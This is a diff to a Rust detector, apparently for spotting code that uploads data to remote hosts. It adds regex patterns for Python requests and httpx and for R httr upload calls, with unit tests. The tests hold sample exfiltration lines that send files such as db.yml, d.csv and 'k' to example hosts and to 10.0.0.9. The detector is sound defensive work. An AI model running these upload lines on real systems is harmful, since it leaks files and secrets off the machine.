@@ -37,6 +37,8 @@ fn patterns() -> &'static Patterns {
                 r"|IO::Socket|TCPSocket|fsockopen|CURLOPT_POST|CURLOPT_UPLOAD|['\x22]method['\x22]\s*=>\s*['\x22]POST",
                 r"|file_put_contents\(\s*['\x22](?:https?|ftp)://",
                 r"|Upload(?:File|String|Data|Values)(?:Async)?\s*\(|UploadFromFile|-InFile\b",
+                r"|from\s+(?:requests|httpx)\s+import\s+[^\n;]*\b(?:post|put|patch)\b",
+                r"|\b(?:httr2?::)?(?:POST|PUT|PATCH)\s*\(\s*['\x22a-z]|curl_upload|ftpUpload|req_body_(?:file|raw|json|multipart)",
             )),
             url: build(r#"(?i)\b(?:https?|ftp|wss?)://[^\s'"`)<>\\,;]+"#),
             host_literal: build(
@@ -190,6 +192,13 @@ mod tests {
         assert_eq!(d, Some(Destination::Host("z.example".into())));
         let d = code_upload("RestClient.put 'https://w.example/x', File.read('db.yml')");
         assert_eq!(d, Some(Destination::Host("w.example".into())));
+        let d = code_upload(
+            "from requests import post; post('https://v.example/', data=open('f').read())",
+        );
+        assert_eq!(d, Some(Destination::Host("v.example".into())));
+        let d =
+            code_upload("httr::POST('https://r.example/api', body = httr::upload_file('d.csv'))");
+        assert_eq!(d, Some(Destination::Host("r.example".into())));
         let d = code_upload("import socket; s=socket.socket(); s.connect(('10.0.0.9', 9)); s.sendall(open('k').read())");
         assert_eq!(d, Some(Destination::Host("10.0.0.9".into())));
     }
